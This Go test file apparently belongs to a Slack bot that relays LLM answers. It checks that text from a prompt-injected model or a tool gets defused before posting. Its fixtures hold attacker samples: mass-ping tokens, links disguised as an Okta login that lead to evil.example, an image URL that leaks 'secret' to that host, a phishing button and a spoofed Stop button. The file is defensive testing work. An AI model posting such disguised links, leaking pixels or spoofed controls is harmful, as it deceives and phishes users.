package slack_test

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/slackbot/slackbot/agent"
	"github.com/slackbot/slackbot/config"
	"github.com/slackbot/slackbot/llm/llmtest"
	"github.com/slackbot/slackbot/slack/emulator"
)

// The attacker's answer: what a prompt-injected model writes to speak in
// the bot's name.
const (
	onlooker = "U0EVE"
	bob      = "U0BOB"
)

func attackerBlocks() []any {
	return []any{
		section("Hey <!channel> <!here> <!everyone> <!subteam^S1|@oncall>: <@" + asker + "> asked, <@" + onlooker + "> and <@" + bob + "> should look."),
		section("Log in at <https://evil.example/login|okta.company.com> or [https://okta.company.com](https://evil.example/sso)."),
		map[string]any{"type": "image", "image_url": "https://evil.example/pixel.png?d=secret", "alt_text": "chart"},
		map[string]any{"type": "actions", "elements": []any{
			map[string]any{"type": "button", "action_id": "slackbot_stop", "value": "x|" + asker, "text": map[string]any{"type": "plain_text", "text": "Stop"}},
			map[string]any{"type": "button", "action_id": "open", "url": "https://evil.example/phish", "text": map[string]any{"type": "plain_text", "text": "Open the report"}},
		}},
	}
}

// posted is the text and blocks of the bot's messages in the thread ts as
// the emulator recorded them, with JSON's \u003c written as <.
func (w *world) posted(ts string) string {
	var b strings.Builder
	for _, m := range botMessages(w.srv.Thread(channel, ts)) {
		b.WriteString(m.Text + "\n")
		var blocks any
		if len(m.Blocks) > 0 {
			_ = json.Unmarshal(m.Blocks, &blocks)
			enc := json.NewEncoder(&b)
			enc.SetEscapeHTML(false)
			_ = enc.Encode(blocks)
		}
	}
	return b.String()
}

// lacks fails t for each of bad in got.
func lacks(t *testing.T, got string, bad ...string) {
	t.Helper()
	for _, s := range bad {
		if strings.Contains(got, s) {
			t.Errorf("the bot posted %s:\n%s", s, got)
		}
	}
}

// holds fails t for each of want missing from got.
func holds(t *testing.T, got string, want ...string) {
	t.Helper()
	for _, s := range want {
		if !strings.Contains(got, s) {
			t.Errorf("the bot's post lacks %s:\n%s", s, got)
		}
	}
}

func TestAPromptInjectedAnswerPingsOnlyTheAskerAndNeitherBroadcastsNorDisguisesNorFetches(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.srv.AddUser(onlooker, "eve")
	w.srv.AddUser(bob, "bob")
	w.model.Push(slackReport([]any{map[string]any{"blocks": attackerBlocks()}}))
	ts := w.srv.Mention(channel, asker, "what's up?")
	w.answered(channel, ts, "should look")
	got := w.posted(ts)
	lacks(t, got, "<!channel>", "<!here>", "<!everyone>", "<!subteam", "<@"+onlooker+">", "<@"+bob+">",
		"|okta", "|https://okta", "image_url", `"url":"https://evil.example/phish"`, `"action_id":"slackbot_stop"`)
	holds(t, got, "<@"+asker+">", "@channel @here @everyone @oncall", "@eve and @bob should look",
		"<https://evil.example/login>", "<https://evil.example/sso>",
		"<https://evil.example/pixel.png?d=secret|chart> (evil.example)", "<https://evil.example/phish|Open the report> (evil.example)")

	// Nothing the bot posts unfurls.
	for _, c := range w.srv.Calls("chat.postMessage") {
		if c.Params.Get("unfurl_links") != "false" || c.Params.Get("unfurl_media") != "false" {
			t.Errorf("a post unfurls: unfurl_links=%q unfurl_media=%q", c.Params.Get("unfurl_links"), c.Params.Get("unfurl_media"))
		}
	}

	// The model's Stop button is not the bot's: no click on it stops anything.
	answer := botMessages(w.srv.Thread(channel, ts))
	last := answer[len(answer)-1]
	if _, err := w.srv.Click(channel, last.TS, asker, "slackbot_stop", ""); !errors.Is(err, emulator.ErrNoSuchAction) {
		t.Errorf("the answer holds a button with the Stop action id (click: %v)", err)
	}
	// The bot's own feedback buttons still carry theirs, and work.
	positive, _, ok := feedbackButtons(t, last)
	if !ok {
		t.Fatalf("the answer lost its feedback buttons: %s", last.Blocks)
	}
	if _, err := w.srv.Click(channel, last.TS, asker, feedbackAction, positive); err != nil {
		t.Fatal(err)
	}
	w.thanked(asker, ts, 1)
}

func TestTheRealStopButtonStillStopsASessionUnderTheVoice(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	g := newGate()
	t.Cleanup(g.open)
	w.model.Respond(func(r *llmtest.Recorded) llmtest.Reply {
		<-g.ch
		return textReport("too late")
	})
	ts := w.srv.Mention(channel, asker, "take your time")
	p := w.progressMessage(ts)
	if _, err := w.srv.Click(channel, p.TS, asker, "slackbot_stop", ""); err != nil {
		t.Fatalf("the progress message's own Stop button cannot be clicked: %v", err)
	}
	w.answered(channel, ts, "Stopped by")
	g.open()
}

func TestTheAgentsMentionAndBroadcastPoliciesDecideWhoIsNotified(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name        string
		broadcasts  bool
		mentions    string
		want, avoid []string
	}{
		{name: "by default the asker and people who wrote in the thread are pinged", mentions: "",
			want:  []string{"<@" + asker + ">", "<@" + bob + ">", "@eve", "@channel"},
			avoid: []string{"<@" + onlooker + ">", "<!channel>"}},
		{name: "mentions none pings nobody", mentions: config.MentionsNone,
			want:  []string{"@ada asked", "@eve and @bob should look"},
			avoid: []string{"<@" + asker + ">", "<@" + bob + ">", "<@" + onlooker + ">"}},
		{name: "mentions all pings everyone", mentions: config.MentionsAll,
			want: []string{"<@" + asker + ">", "<@" + bob + ">", "<@" + onlooker + ">"}},
		{name: "allow_broadcasts keeps the broadcasts", broadcasts: true,
			want:  []string{"<!channel> <!here> <!everyone> <!subteam^S1|@oncall>", "@eve"},
			avoid: []string{"<@" + onlooker + ">"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, func(cfg *config.Config, _ *agent.Runner) {
				a := cfg.Agents["assistant"]
				a.AllowBroadcasts, a.Mentions = c.broadcasts, c.mentions
			})
			w.srv.AddUser(onlooker, "eve")
			w.srv.AddUser(bob, "bob")
			w.model.Push(textReport("First answer."))
			ts := w.srv.Mention(channel, asker, "first")
			w.answered(channel, ts, "First answer")
			w.srv.Reply(channel, ts, bob, "I was here too")
			w.model.Push(slackReport([]any{map[string]any{"blocks": attackerBlocks()}}))
			w.srv.Reply(channel, ts, asker, "<@"+w.srv.BotUserID()+"> and now?")
			w.answered(channel, ts, "should look")
			got := w.posted(ts)
			holds(t, got, c.want...)
			lacks(t, got, c.avoid...)
		})
	}
}

func TestAProgressMessageShowsTheModelsStatusWithoutBroadcastingOrPinging(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.srv.AddUser(onlooker, "eve")
	g := newGate()
	t.Cleanup(g.open)
	turns := 0
	w.model.Respond(func(r *llmtest.Recorded) llmtest.Reply {
		turns++
		if turns == 1 {
			return call(agent.TaskStatusTool, `{"status":"in-progress","done":"","pending":"more","now":"telling <!channel> and <@`+onlooker+`> at <https://evil.example|okta.company.com>","ready_for_final_report":false,"need_to_run_more_tools":true}`)
		}
		<-g.ch
		return textReport("Done.")
	})
	w.cfg.Agents["assistant"].Tools = append(w.cfg.Agents["assistant"].Tools, agent.TaskStatusTool)
	ts := w.srv.Mention(channel, asker, "work on it")
	w.waitFor("the status in the progress message", func() bool {
		return strings.Contains(w.posted(ts), "telling")
	})
	got := w.posted(ts)
	lacks(t, got, "<!channel>", "<@"+onlooker+">", "<https://evil.example|okta")
	holds(t, got, `"action_id":"slackbot_stop"`)
	g.open()
	w.answered(channel, ts, "Done.")
}

func TestAnEphemeralRefusalFollowsTheVoiceToo(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(cfg *config.Config, _ *agent.Runner) {
		cfg.Slack.Allow.Users = []string{"U0SOMEONEELSE"}
		cfg.Slack.RejectionMessage = "Not here, <!channel>; ask <@" + onlooker + ">."
	})
	w.srv.AddUser(onlooker, "eve")
	w.srv.Mention(channel, asker, "let me in")
	var text string
	w.waitFor("the refusal", func() bool {
		for _, e := range w.srv.Ephemerals() {
			if e.User == asker {
				text = e.Text
				return true
			}
		}
		return false
	})
	if text != "Not here, @channel; ask @eve." {
		t.Errorf("the refusal reads %q", text)
	}
}

func TestATrustedHostKeepsItsImagesAndURLButtons(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(cfg *config.Config, _ *agent.Runner) {
		cfg.Slack.TrustedHosts = []string{"*.example.com"}
	})
	w.model.Push(slackReport([]any{map[string]any{"blocks": []any{
		section("The chart:"),
		map[string]any{"type": "image", "image_url": "https://img.example.com/chart.png", "alt_text": "chart"},
		map[string]any{"type": "actions", "elements": []any{
			map[string]any{"type": "button", "action_id": "open", "url": "https://ci.example.com/run/1", "text": map[string]any{"type": "plain_text", "text": "Open the run"}}}},
	}}}))
	ts := w.srv.Mention(channel, asker, "chart?")
	w.answered(channel, ts, "The chart")
	holds(t, w.posted(ts), `"image_url":"https://img.example.com/chart.png"`, `"url":"https://ci.example.com/run/1"`)
}

func TestAToolsTextAdoptedAsTheAnswerShowsItsSlackTokensAsWords(t *testing.T) {
	t.Parallel()
	_, orch := everything(t, "")
	// Even an agent allowed to broadcast and ping anyone does not do it
	// with a tool's words.
	w := newWorld(t, func(cfg *config.Config, r *agent.Runner) {
		r.Tools = orch
		a := cfg.Agents["assistant"]
		a.MaxTurns, a.AllowBroadcasts, a.Mentions = 2, true, config.MentionsAll
	})
	w.model.Push(
		call("everything__echo", `{"message":"<!channel> <@`+onlooker+`> see <https://evil.example|okta.company.com>"}`),
		call(agent.FinalReportTool, `{"status":"success","report_format":"slack-block-kit"}`),
		call(agent.FinalReportTool, `{"status":"success","report_format":"slack-block-kit","report_content":""}`),
	)
	ts := w.srv.Mention(channel, asker, "echo it")
	w.answered(channel, ts, "Echo:")
	got := w.posted(ts)
	lacks(t, got, "<!channel>", "<@"+onlooker+">", "|okta.company.com>")
	holds(t, got, "&lt;!channel&gt;")
}
